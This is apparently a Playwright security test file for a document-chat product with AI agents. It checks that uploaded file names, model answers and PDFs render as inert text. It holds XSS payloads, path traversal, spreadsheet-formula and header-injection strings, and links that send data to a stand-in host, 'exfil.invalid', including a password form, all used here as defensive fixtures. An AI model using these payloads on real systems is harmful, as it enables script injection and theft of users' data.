import { readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { makeScriptedPdf } from '../../api/test/support/make-scripted-pdf.ts'
import { fixtureFiles, makeDocument } from './support/fixture-files.ts'
import { expect, test } from './support/fixtures.ts'
import { ask, documentRow, dropFiles, openWorkspace } from './support/pages.ts'

/** Everything that these tests smuggle in calls this, or asks for something from here. */
const flag = 'fieldproofWasFooled'
const stranger = 'exfil.invalid'

const hostileNames = [
  `<img src=x onerror="window.${flag}=1">.pdf`,
  `<script>window.${flag}=1</script>.pdf`,
  `"><svg onload="window.${flag}=1">.pdf`,
  `javascript:window.${flag}=1;.pdf`,
  `report\u202efdp.exe.pdf`,
  `{{constructor.constructor('window.${flag}=1')()}}.pdf`,
  `= HYPERLINK("https://${stranger}").pdf`,
  `../../../etc/passwd.pdf`,
]

const hostileAnswer = `
Text before [1]. <img src="https://${stranger}/a.png" onerror="window.${flag}=1">

<script>window.${flag}=1</script>

<svg onload="window.${flag}=1"><animate onbegin="window.${flag}=1" attributeName="x" dur="1s"/></svg>

<iframe src="https://${stranger}/frame"></iframe> <object data="https://${stranger}/o"></object>

<style>@import url("https://${stranger}/style.css"); body { display: none }</style>

<form action="https://${stranger}/form"><input name="password"></form>

<a href="javascript:window.${flag}=1">a link of HTML</a>

![picture](https://${stranger}/b.png) ![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5maWVsZHByb29mV2FzRm9vbGVkPTEiLz4=)

![reference][pic]

[script](javascript:window.${flag}=1) [data](data:text/html,<script>window.${flag}=1</script>) [tabs](java\tscript:window.${flag}=1)

[vb](vbscript:msgbox(1)) [file](file:///etc/passwd) <javascript:window.${flag}=1>

[pic]: https://${stranger}/c.png
[1]: https://${stranger}/citation

\`\`\`html
<script>window.${flag}=1</script>
\`\`\`

| <img src=x onerror="window.${flag}=1"> | cell |
|---|---|
| [x](javascript:window.${flag}=1) | <b onclick="window.${flag}=1">bold</b> |

Text after [1].`

/** Collects whatever leaves for another address than the product's. */
function watchRequests(page: Page, url: string): string[] {
  const foreign: string[] = []
  page.context().on('request', (request) => {
    const address = request.url()
    if (!address.startsWith(url) && !/^(?:data|blob|about|chrome-extension):/.test(address)) foreign.push(address)
  })
  return foreign
}

async function expectUnharmed(page: Page, foreign: string[]): Promise<void> {
  expect(await page.evaluate((name) => name in window, flag)).toBe(false)
  expect(foreign).toEqual([])
}

test('hostile file names are text, in every place that shows them', async ({ page, product }) => {
  const user = await product.user('hse')
  await product.api.deleteAllDocuments(user.session)
  const foreign = watchRequests(page, product.url)
  const names: string[] = []
  for (const name of hostileNames) {
    const { bytes } = makeDocument(name)
    names.push((await product.api.uploadDocument(user.session, { name, bytes })).originalName)
  }
  await openWorkspace(page, product, user, 'documents')
  for (const name of names) await expect(page.getByTitle(name, { exact: true }).first()).toBeVisible()
  expect(names.join()).not.toContain('\u202e')
  const first = names[0] ?? ''
  await page.getByRole('button', { name: `Delete ${first}`, exact: true }).click()
  await expect(page.getByRole('alertdialog')).toContainText(first.replace(/\.pdf$/, ''))
  await page.getByRole('alertdialog').getByRole('button', { name: 'Cancel' }).click()
  await page.getByLabel('Search by file name').fill('<img')
  await expect(documentRow(page, first)).toBeVisible()
  await page.getByLabel('Search by file name').fill(`<img src=x onerror="window.${flag}=1">none`)
  await expect(page.getByText('No document has this in its name')).toBeVisible()
  // Refused, so that the name stands in an error as well.
  await dropFiles(page, [{ name: first, mimeType: 'application/pdf', buffer: Buffer.from('<script>1</script>') }])
  await expect(page.locator('li[data-tone]')).toContainText('Upload Failed')
  await expectUnharmed(page, foreign)
})

test('the name of a duplicate is text in the toast', async ({ page, product }) => {
  const user = await product.user('hse')
  const name = `<img src=x onerror="window.${flag}=1"> twice.pdf`
  const file = makeDocument(name)
  await product.api.uploadDocument(user.session, file)
  await openWorkspace(page, product, user, 'documents')
  const foreign = watchRequests(page, product.url)
  await dropFiles(page, [{ ...file, name: 'copy.pdf' }])
  await expect(page.locator('li[data-tone]')).toContainText(name)
  await expectUnharmed(page, foreign)
})

test('HTML, SVG, scripts and pictures of an answer are text, while it is written and when it is done', async ({
  page,
  productWithProvider: product,
  provider,
}) => {
  const user = await product.user('hse')
  await product.api.ensureIndexed(user.session, fixtureFiles.gasTesting)
  await product.api.createChatSession(user.session, `<img src=x onerror="window.${flag}=1">`)
  await provider.reply(hostileAnswer, { delayMs: 5 })
  await openWorkspace(page, product, user, 'chat')
  const foreign = watchRequests(page, product.url)
  await ask(page, `What about <img src=x onerror="window.${flag}=1"> gas testing?`)
  const answer = page.getByRole('article', { name: 'Answer of the HSE Agent' })
  await expect(answer).toContainText('Text after')
  await expect(answer.getByRole('group', { name: 'Sources' })).toBeVisible()

  await expect(
    answer.locator('img, script, iframe, object, style, form, input, animate, [onerror], [onload]'),
  ).toHaveCount(0)
  const addresses = await answer
    .locator('a')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''))
  for (const address of addresses) expect(address).toMatch(/^(?:https?:\/\/|mailto:)/)
  await expect(answer.getByRole('button', { name: /^Source 1, / }).first()).toBeVisible()
  for (const link of await answer.locator('a').all())
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow')
  await page.reload()
  await page.getByTestId('nav-chat').click()
  await expect(answer).toContainText('Text after')
  await expectUnharmed(page, foreign)
})

test('words of a document that look like Markdown or HTML stay words in a quotation', async ({ page, product }) => {
  const user = await product.user('tender')
  const { drawLines, makePdf } = await import('../../api/test/support/make-pdf.ts')
  const bytes = new Uint8Array(
    makePdf([
      {
        content: drawLines([
          `The pump key of Quillmere is kept in ![locker](https://${stranger}/x.png) number 42.`,
          `The spare pump key of Quillmere is kept by <img src=x onerror="window.${flag}=1"> the guard.`,
        ]),
      },
    ]),
  )
  const { id } = await product.api.uploadDocument(user.session, { name: 'Keys.pdf', bytes })
  await product.api.waitUntil(user.session, id, 'indexed')
  await product.api.createChatSession(user.session, 'Keys')
  await openWorkspace(page, product, user, 'chat')
  const foreign = watchRequests(page, product.url)
  await ask(page, 'Where is the pump key of Quillmere kept?')
  const answer = page.getByRole('article', { name: 'Answer of the Tender Agent' })
  await expect(answer).toContainText('Quillmere')
  await expect(answer.getByRole('group', { name: 'Sources' })).toBeVisible()
  await expect(answer.locator('img, script')).toHaveCount(0)
  // An address that a document prints may be opened, but only as what it says it is.
  for (const link of await answer.locator('a').all())
    await expect(link).toHaveAttribute('href', (await link.textContent()) ?? '')
  await expectUnharmed(page, foreign)
})

test('a file is handed out as a PDF that may run nothing, whatever is in it', async ({ product }) => {
  const user = await product.user('hse')
  const html = Buffer.concat([readFileSync(fixtureFiles.gasTesting), Buffer.from(`<script>window.${flag}=1</script>`)])
  const file = { name: `evil"; filename="x.html.pdf`, bytes: new Uint8Array(html) }
  const { id } = await product.api.uploadDocument(user.session, file)
  const response = await fetch(`${product.url}/api/documents/${id}/file`, {
    headers: { authorization: `Bearer ${user.session.token}` },
  })
  expect(response.headers.get('content-type')).toBe('application/pdf')
  expect(response.headers.get('x-content-type-options')).toBe('nosniff')
  expect(response.headers.get('content-security-policy')).toContain('sandbox')
  expect(response.headers.get('content-disposition')).not.toMatch(/filename="?x\.html/)
  const withoutToken = await fetch(`${product.url}/api/documents/${id}/file`)
  expect(withoutToken.status).toBe(401)
})

test('the viewer runs nothing that a PDF brings along', async ({ page, product }) => {
  const bytes = new Uint8Array(makeScriptedPdf(['Every block valve on the Alder Reach manifold is chained shut.']))
  const user = await product.user('tender')
  const { id } = await product.api.uploadDocument(user.session, { name: 'js-action.pdf', bytes })
  await product.api.waitUntil(user.session, id, 'indexed')
  const dialogs: string[] = []
  page.on('dialog', async (dialog) => {
    dialogs.push(dialog.message())
    await dialog.dismiss()
  })
  await openWorkspace(page, product, user, 'documents')
  const foreign = watchRequests(page, product.url)
  await page.getByRole('button', { name: 'View js-action.pdf' }).click()
  await expect(page.getByText('Every block valve on the Alder Reach manifold').first()).toBeVisible()
  expect(dialogs).toEqual([])
  expect(await page.title()).not.toContain('RAN')
  await expectUnharmed(page, foreign)
})

test('every page forbids foreign scripts, styles, frames and pictures', async ({ page, product }) => {
  for (const path of ['/', '/admin', '/nowhere', '/index.html']) {
    const response = await page.goto(`${product.url}${path}`)
    const policy = response?.headers()['content-security-policy'] ?? ''
    expect(policy).toContain("default-src 'self'")
    expect(policy).toContain("script-src 'self'")
    expect(policy).toMatch(/style-src 'self' 'nonce-[^']{20,}';/)
    expect(policy).not.toContain('unsafe')
    expect(policy).toContain("frame-ancestors 'none'")
  }
})
